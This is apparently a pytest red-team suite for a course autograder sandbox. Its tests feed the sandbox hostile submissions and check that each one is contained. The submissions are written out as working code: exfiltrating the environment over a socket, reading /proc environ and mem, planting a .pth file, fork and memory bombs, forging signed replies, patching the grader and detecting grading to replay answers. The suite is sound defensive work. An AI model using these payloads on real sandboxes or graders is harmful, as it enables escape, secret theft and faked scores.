"""Hostile submissions against the sandbox, as a determined student would write them.

Each attack's ``double`` answers honestly only if the attack worked, so a sandbox that lets
it through hands out points; ``greet`` is left undone. ``arena.contained`` then checks every
witness (see ``conftest.py``): no points beyond the honest ones, no secret in the report, no
connection, no file outside the scratch folder, no process left, and the reference solution
still scores full marks.
"""

from __future__ import annotations

import pytest

from tests.redteam.conftest import Arena

#: ``greet`` is not done: an attack that earns nothing scores 0.
UNDONE = """
def greet(name):
    raise NotImplementedError("not attempted")
"""


def attack(body: str) -> str:
    """A submission whose ``double`` is right exactly when ``attempt()`` returns True."""
    return (
        "import os, sys\n"
        + body
        + "\n\ndef double(x):\n    return 2 * x if attempt() else -1.0\n"
        + UNDONE
    )


def check_statuses(report, status: str) -> None:  # type: ignore[no-untyped-def]
    double = report.checks[0]
    assert double.status == status, (double.status, double.message)


# -- the course's private files -----------------------------------------------------------


def test_reading_the_reference_solution(arena: Arena) -> None:
    """The solution file is not in the sandbox: running it is impossible."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    try:\n"
            "        namespace = {}\n"
            "        exec(open('__SOLUTION__').read(), namespace)\n"
            "        return namespace['double'](2) == 4\n"
            "    except OSError:\n"
            "        return False\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


def test_reading_the_graders_and_their_thresholds(arena: Arena) -> None:
    """Neither the week's grader files nor the course checkout can be listed or read."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    places = ['__GRADERS__', '__REPO__/graders', '__REPO__/solutions']\n"
            "    return any(os.path.exists(place) for place in places)\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


def test_labels_read_from_the_datasets_on_disk(arena: Arena) -> None:
    """Fashion-MNIST's test labels (Debian's files, the Keras cache, the course's cache) and
    scikit-learn's bundled datasets are hidden from the worker."""
    report = arena.grade(
        attack(
            "import glob, sklearn\n"
            "def attempt():\n"
            "    sklearn_data = os.path.join(os.path.dirname(sklearn.__file__), 'datasets/data')\n"
            "    places = ['/usr/share/datasets/fashion-mnist/t10k-labels-idx1-ubyte.gz',\n"
            "              '__HOME__/.keras/datasets', '__HOME__/.cache/course',\n"
            "              os.path.join(sklearn_data, 'breast_cancer.csv')]\n"
            "    found = [p for p in places if os.path.exists(p)]\n"
            "    found += glob.glob('/usr/share/*/*/t10k-labels*') + glob.glob('/*/.keras')\n"
            "    return bool(found)\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


def test_symlinks_in_the_scratch_folder_lead_nowhere(arena: Arena) -> None:
    """Links made in the scratch folder point into the sandbox's own filesystem; files the
    grading process might have read (output.log, results.json) are not where it looks."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    for name, target in [('escape', '__REPO__/solutions'),\n"
            "                         ('output.log', '/proc/self/environ'),\n"
            "                         ('results.json', '/proc/self/environ')]:\n"
            "        try:\n"
            "            os.symlink(target, name)\n"
            "        except OSError:\n"
            "            pass\n"
            "    for name in ('output.log', 'results.json'):\n"
            "        try:\n"
            "            print(open(name, 'rb').read())\n"
            "        except OSError:\n"
            "            pass\n"
            "    return os.path.exists('escape/week01_toy.py')\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


# -- the harness ----------------------------------------------------------------------------


def test_writing_into_the_harness_site_packages_and_progress_store(arena: Arena) -> None:
    """The graders, the course package, site-packages (a .pth file runs in every later
    Python), the progress store and the home folder are read-only or absent: a write counts
    only into a folder the worker can see (paths it creates land in its own scratch)."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    targets = ['__GRADERS__/test___TOKEN__.py',\n"
            "               '__COURSE_PACKAGE__/__TOKEN__.py',\n"
            "               '__SITE_PACKAGES__/__TOKEN__.pth',\n"
            "               '__PROGRESS__', '__HOME__/__TOKEN__', '/__TOKEN__',\n"
            "               '/usr/__TOKEN__', sys.prefix + '/__TOKEN__']\n"
            "    written = 0\n"
            "    for target in targets:\n"
            "        if not os.path.isdir(os.path.dirname(target)):\n"
            "            continue\n"
            "        try:\n"
            "            with open(target, 'w') as handle:\n"
            "                handle.write('import os; os.system(\"touch /tmp/__TOKEN__\")')\n"
            "            written += 1\n"
            "        except OSError:\n"
            "            pass\n"
            "    return written > 0\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


def test_forging_the_results_file_from_a_detached_grandchild(arena: Arena) -> None:
    """A double-forked, setsid grandchild that waits for the grading process's results.json
    to replace it cannot see it, and dies with the sandbox."""
    report = arena.grade(
        "import os, sys, time, glob, json\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        deadline = time.time() + 60\n"
        "        while time.time() < deadline:\n"
        "            for path in glob.glob('/tmp/course-grade-*/results.json'):\n"
        "                try:\n"
        "                    open(path, 'w').write(json.dumps({'checks': []}))\n"
        "                except OSError:\n"
        "                    pass\n"
        "            time.sleep(0.05)\n"
        "    os._exit(0)\n"
        "def double(x):\n    return -1.0\n" + UNDONE
    )
    arena.contained(report)


def test_writing_to_the_progress_store_does_not_change_the_score(arena: Arena) -> None:
    """The learner's progress store lives outside the sandbox; the report is what counts."""
    report = arena.grade(
        attack(
            "import json\n"
            "def attempt():\n"
            "    try:\n"
            "        with open('__PROGRESS__', 'w') as handle:\n"
            "            json.dump({'week01': {'best_score': 3}}, handle)\n"
            "        return True\n"
            "    except OSError:\n"
            "        return False\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


# -- secrets and the network ---------------------------------------------------------------


def test_the_grading_processs_environment_is_out_of_reach(arena: Arena) -> None:
    """The secret in the grading process's environment is neither inherited nor readable
    through /proc (its own pid namespace), however the attack looks."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    if '__SECRET_NAME__' in os.environ:\n"
            "        return True\n"
            "    for entry in os.listdir('/proc'):\n"
            "        for name in ('environ', 'cmdline'):\n"
            "            try:\n"
            "                data = open(f'/proc/{entry}/{name}', 'rb').read()\n"
            "            except OSError:\n"
            "                continue\n"
            "            if b'__SECRET_NAME__' in data:\n"
            "                print(data)\n"
            "                return True\n"
            "    return False\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


def test_reading_process_memory_through_proc(arena: Arena) -> None:
    """/proc/*/mem is refused, the worker's own included (it could rewrite the grader)."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    for path in ('/proc/self/mem', '/proc/1/mem', f'/proc/{os.getppid()}/mem'):\n"
            "        try:\n"
            "            open(path, 'rb').close()\n"
            "            return True\n"
            "        except (OSError, PermissionError):\n"
            "            pass\n"
            "    return False\n"
        )
    )
    arena.contained(report)


def test_exfiltration_to_a_loopback_listener(arena: Arena) -> None:
    """The worker's network namespace has only its own loopback: the host's 127.0.0.1
    listener is unreachable, by TCP or by an abstract Unix socket."""
    report = arena.grade(
        attack(
            "import socket\n"
            "def attempt():\n"
            "    reached = False\n"
            "    try:\n"
            "        with socket.create_connection(('127.0.0.1', __PORT__), timeout=2) as s:\n"
            "            s.sendall(b'POST /leak HTTP/1.0\\r\\n\\r\\n' + str(os.environ).encode())\n"
            "            reached = True\n"
            "    except OSError:\n"
            "        pass\n"
            "    try:\n"
            "        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            "        unix.connect('\\0__ABSTRACT__')\n"
            "        reached = True\n"
            "    except OSError:\n"
            "        pass\n"
            "    return reached\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


# -- processes --------------------------------------------------------------------------------


def test_fork_bomb(arena: Arena) -> None:
    """At most the sandbox's task limit of processes start; every one ends with the worker."""
    report = arena.grade(
        attack(
            "import time\n"
            "def attempt():\n"
            "    started = 0\n"
            "    for _ in range(400):\n"
            "        try:\n"
            "            pid = os.fork()\n"
            "        except OSError:\n"
            "            break\n"
            "        if pid == 0:\n"
            "            time.sleep(60)\n"
            "            os._exit(0)\n"
            "        started += 1\n"
            "    print('started', started)\n"
            "    return started >= 400\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


def test_killing_every_process_it_can(arena: Arena) -> None:
    """kill(-1, SIGKILL) reaches only the sandbox's own processes: the worker dies, the
    grading process reports it, and the next check gets a fresh worker."""
    report = arena.grade(
        "import os, signal\n"
        "def double(x):\n"
        "    os.kill(-1, signal.SIGKILL)\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
        "    return -1.0\n" + UNDONE
    )
    assert report.checks[0].status in ("error", "crashed"), report.checks[0]
    arena.contained(report)


def test_ptrace_and_new_namespaces_from_a_fresh_interpreter(arena: Arena) -> None:
    """A child Python without the worker's audit hook still meets the system-call filter:
    ptrace, process_vm_readv and unshare are refused."""
    report = arena.grade(
        attack(
            "import subprocess\n"
            "CHILD = '''\n"
            "import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "results = [libc.ptrace(16, os.getppid(), 0, 0),\n"
            "           libc.unshare(0x10000000), libc.unshare(0x40000000)]\n"
            "print(','.join(str(r) for r in results))\n"
            "'''\n"
            "def attempt():\n"
            "    out = subprocess.run([sys.executable, '-c', CHILD], capture_output=True,\n"
            "                         text=True).stdout.strip()\n"
            "    print('child said', out)\n"
            "    return out != '' and out != '-1,-1,-1'\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)


# -- limits ---------------------------------------------------------------------------------


def test_memory_bomb(arena: Arena, monkeypatch: pytest.MonkeyPatch) -> None:
    """Touching 6 GiB ends in out-of-memory at the sandbox's limit (4 GiB), not in the
    machine's trouble."""
    monkeypatch.setenv("COURSE_TIME_LIMIT_SCALE", "6")  # 4 GiB take a few seconds to touch
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    blocks = [b'\\x01' * (256 << 20) for _ in range(24)]\n"
            "    return len(blocks) == 24\n"
        )
    )
    check_statuses(report, "out-of-memory")
    assert "memory" in report.checks[0].message
    arena.contained(report)


@pytest.mark.parametrize("folder", ["os.environ['TMPDIR']", "'/tmp'", "'.'"])
def test_disk_bomb(arena: Arena, folder: str) -> None:
    """Writing 1 GiB into the scratch folder, /tmp or the current folder stops at the
    scratch space's cap: the submission sees 'no space left' and earns nothing."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            f"    path = os.path.join({folder}, 'filler-__TOKEN__')\n"
            "    chunk = b'x' * (16 << 20)\n"
            "    with open(path, 'wb') as handle:\n"
            "        for _ in range(64):\n"
            "            handle.write(chunk)\n"
            "    return True\n"
        )
    )
    assert report.checks[0].status in ("error", "out-of-memory"), report.checks[0]
    arena.contained(report)


def test_one_huge_file(arena: Arena) -> None:
    """A single file past the file-size limit (256 MiB) is refused with its own message."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    with open('huge', 'wb') as handle:\n"
            "        handle.truncate(300 << 20)\n"
            "        handle.seek(300 << 20)\n"
            "        handle.write(b'x')\n"
            "    return True\n"
        )
    )
    check_statuses(report, "error")
    assert "file" in report.checks[0].message
    arena.contained(report)


def test_output_bomb(arena: Arena) -> None:
    """300 MB printed: the worker is stopped past its output limit, the message says so, and
    only the head and tail of the output are kept."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    line = 'spam ' * 200 + '\\n'\n"
            "    for _ in range(300_000):\n"
            "        sys.stdout.write(line)\n"
            "    return True\n"
        )
    )
    check_statuses(report, "error")
    assert "printed more than" in report.checks[0].message
    assert len(report.checks[0].message) < 20_000
    arena.contained(report)


def test_cpu_spin(arena: Arena) -> None:
    """An endless loop is stopped at the check's time limit; the next check still runs."""
    report = arena.grade("def double(x):\n    while True:\n        pass\n" + UNDONE)
    check_statuses(report, "timeout")
    assert report.checks[1].status == "error"
    arena.contained(report)


def test_open_file_bomb(arena: Arena) -> None:
    """Opening files without end stops at the limit on open files."""
    report = arena.grade(
        attack(
            "def attempt():\n"
            "    kept = [open('/dev/null') for _ in range(100_000)]\n"
            "    return len(kept) == 100_000\n"
        )
    )
    check_statuses(report, "error")
    arena.contained(report)


# -- crashes -----------------------------------------------------------------------------------


def test_native_crash(arena: Arena) -> None:
    """A segmentation fault is 'crashed' for that check; the grading process goes on."""
    report = arena.grade(
        "import faulthandler\ndef double(x):\n    faulthandler._sigsegv()\n" + UNDONE
    )
    check_statuses(report, "crashed")
    arena.contained(report)


def test_tensorflow_abort(arena: Arena) -> None:
    """TensorFlow aborting the process (a failed CHECK, SIGABRT) is 'crashed', not a grader
    failure."""
    report = arena.grade(
        "import tensorflow as tf\n"
        "def double(x):\n"
        "    graph = tf.Graph()\n"
        "    with graph.as_default():\n"
        "        abort = tf.raw_ops.Abort(error_msg='boom')\n"
        "    with tf.compat.v1.Session(graph=graph) as session:\n"
        "        session.run(abort)\n"
        "    return 2 * x\n" + UNDONE
    )
    check_statuses(report, "crashed")
    arena.contained(report)


def test_exit_at_import(arena: Arena) -> None:
    """os._exit at import costs every check, and only this submission."""
    report = arena.grade("import os\nos._exit(0)\n" + "def double(x):\n    return 2 * x\n")
    assert {check.status for check in report.checks} == {"error"}
    arena.contained(report)


# -- the grading machinery inside the worker ----------------------------------------------


def test_replacing_the_probe_registry(arena: Arena) -> None:
    """A submission that swaps the worker's probe for its own (forging every answer) is
    flagged integrity and earns nothing."""
    report = arena.grade(
        "import sys\n"
        "probes = sys.modules['course.probes']\n"
        "real = probes._REGISTRY['call']\n"
        "def forged(module, **args):\n"
        "    value = args['args'][0]\n"
        "    return 2 * value if args['function'] == 'double' else 'hello ' + value\n"
        "probes._REGISTRY['call'] = forged\n"
        "def double(x):\n    return -1.0\n" + UNDONE
    )
    check_statuses(report, "integrity")
    assert report.integrity
    arena.contained(report)


def test_walking_frames_to_the_grader(arena: Arena) -> None:
    """sys._getframe and inspect from the submission are refused and flagged."""
    report = arena.grade(
        "import inspect\n"
        "def double(x):\n"
        "    frame = inspect.currentframe().f_back\n"
        "    frame.f_globals['to_plain'] = lambda value, **k: 2 * x\n"
        "    return -1.0\n" + UNDONE
    )
    check_statuses(report, "integrity")
    arena.contained(report)


def test_walking_a_traceback_to_the_grader(arena: Arena) -> None:
    """Frames reached through a traceback and changed are caught by the snapshot."""
    report = arena.grade(
        "import traceback\n"
        "def double(x):\n"
        "    try:\n"
        "        raise ValueError\n"
        "    except ValueError as error:\n"
        "        frame = next(traceback.walk_tb(error.__traceback__))[0]\n"
        "    caller = frame.f_back\n"
        "    caller.f_globals['to_plain'] = lambda value, **k: value\n"
        "    return -1.0\n" + UNDONE
    )
    assert report.checks[0].status == "integrity" or report.checks[1].status == "integrity"
    assert report.integrity
    arena.contained(report)


def test_walking_the_garbage_collector(arena: Arena) -> None:
    """gc.get_objects (to find the registry or the signing key) is refused and flagged."""
    report = arena.grade(
        "import gc\n"
        "def double(x):\n"
        "    for thing in gc.get_objects():\n"
        "        if isinstance(thing, dict) and 'call' in thing:\n"
        "            thing['call'] = lambda module, **args: 2 * x\n"
        "    return -1.0\n" + UNDONE
    )
    check_statuses(report, "integrity")
    arena.contained(report)


def test_monkeypatching_a_probe_module(arena: Arena) -> None:
    """Replacing a function of the worker's probes through sys.modules is flagged."""
    report = arena.grade(
        "import sys\n"
        "values = sys.modules['course.probes.values']\n"
        "values.to_plain = lambda value, **k: value\n"
        "def double(x):\n    return -1.0\n" + UNDONE
    )
    check_statuses(report, "integrity")
    arena.contained(report)


def test_ctypes_and_tracing_hooks(arena: Arena) -> None:
    """ctypes (raw memory) and sys.settrace (every frame) are refused and flagged."""
    report = arena.grade(
        "import ctypes, sys\n"
        "def double(x):\n"
        "    try:\n"
        "        ctypes.string_at(id(x), 8)\n"
        "    except PermissionError:\n"
        "        pass\n"
        "    sys.settrace(lambda *a: None)\n"
        "    return 2 * x\n" + UNDONE
    )
    check_statuses(report, "integrity")
    arena.contained(report)


def test_forged_reply_on_the_workers_channel(arena: Arena) -> None:
    """A reply written straight into the worker's pipe has no valid signature: it is
    refused and flagged, never taken as the worker's answer."""
    report = arena.grade(
        "import os, sys, json, struct\n"
        "def double(x):\n"
        "    fd = int(sys.argv[sys.argv.index('--write-fd') + 1])\n"
        "    text = json.dumps({'ok': True, 'value': 2 * x}).encode()\n"
        "    for magic in (b'CRS2', b'CRS1'):\n"
        "        os.write(fd, struct.pack('>4sQQQ', magic, len(text), 0, 0) + b'0' * 32 + text)\n"
        "    os._exit(0)\n" + UNDONE
    )
    check_statuses(report, "integrity")
    arena.contained(report)


def test_objects_that_equal_everything(arena: Arena) -> None:
    """An object whose __eq__ says yes, or a float subclass that lies, never reaches the
    grader: only plain data crosses."""
    report = arena.grade(
        "class Liar(float):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __sub__(self, other):\n        return 0.0\n"
        "    __rsub__ = __sub__\n"
        "    def __abs__(self):\n        return 0.0\n"
        "def double(x):\n    return Liar(-1.0)\n" + UNDONE
    )
    check_statuses(report, "error")
    arena.contained(report)


def test_pickles_and_object_arrays(arena: Arena) -> None:
    """An object array (a pickle in disguise) is refused before it is decoded."""
    report = arena.grade(
        "import numpy as np\n"
        "class Payload:\n"
        "    def __reduce__(self):\n"
        "        return (print, ('pwned',))\n"
        "def double(x):\n    return np.array([Payload(), 2 * x], dtype=object)\n" + UNDONE
    )
    check_statuses(report, "error")
    arena.contained(report)


def test_recognising_the_grader_and_replaying_its_inputs(arena: Arena) -> None:
    """Code that notices it is being graded (its argv, its HOME, sys.modules) and answers
    from a table of the inputs one grading used fails the next grading, whose inputs are
    drawn afresh."""
    first = arena.grade(
        "def double(x):\n    print('INPUT', repr(x))\n    return 2 * x\n" + UNDONE, name="spy"
    )
    seen = first.checks[0].message
    x = float(seen.split("double(")[1].split(")")[0])
    source = (
        "import os, sys\n"
        "GRADED = 'course.sandbox.worker' in ' '.join(sys.argv) or 'course.probes' in sys.modules\n"
        f"TABLE = {{{x!r}: {2 * x!r}}}\n"
        "def double(x):\n"
        "    return TABLE.get(x, -1.0) if GRADED else 2 * x\n" + UNDONE
    )
    assert arena.grade(source, seed=0).checks[0].status == "passed"  # the replayed grading
    report = arena.grade(source, seed=12345)
    check_statuses(report, "failed")
    arena.contained(report)


def test_stealing_the_signing_key_through_frames(arena: Arena) -> None:
    """The key that signs replies lives on the worker's main thread, which never runs the
    submission's code: frames reached through a traceback (f_back is not audited) or a
    signal handler (only the main thread may install one) never lead to it."""
    report = arena.grade(
        attack(
            "import signal, traceback\n"
            "def secrets_in(frame):\n"
            "    found = []\n"
            "    while frame is not None:\n"
            "        for value in list(frame.f_locals.values()):\n"
            "            cells = getattr(value, '__closure__', None) or ()\n"
            "            for cell in cells:\n"
            "                try:\n"
            "                    content = cell.cell_contents\n"
            "                except ValueError:\n"
            "                    continue\n"
            "                if isinstance(content, bytes) and len(content) == 32:\n"
            "                    found.append(content)\n"
            "            if isinstance(value, bytes) and len(value) == 32:\n"
            "                found.append(value)\n"
            "        frame = frame.f_back\n"
            "    return found\n"
            "HANDLED = []\n"
            "try:\n"
            "    signal.signal(signal.SIGUSR1, lambda number, frame: HANDLED.append(frame))\n"
            "    INSTALLED = True\n"
            "except ValueError:\n"
            "    INSTALLED = False\n"
            "def attempt():\n"
            "    try:\n"
            "        raise ValueError\n"
            "    except ValueError as error:\n"
            "        mine = next(traceback.walk_tb(error.__traceback__))[0]\n"
            "    if secrets_in(mine):\n"
            "        return True\n"
            "    if INSTALLED:\n"
            "        os.kill(os.getpid(), signal.SIGUSR1)\n"
            "    return any(secrets_in(frame) for frame in HANDLED)\n"
        )
    )
    check_statuses(report, "failed")
    arena.contained(report)
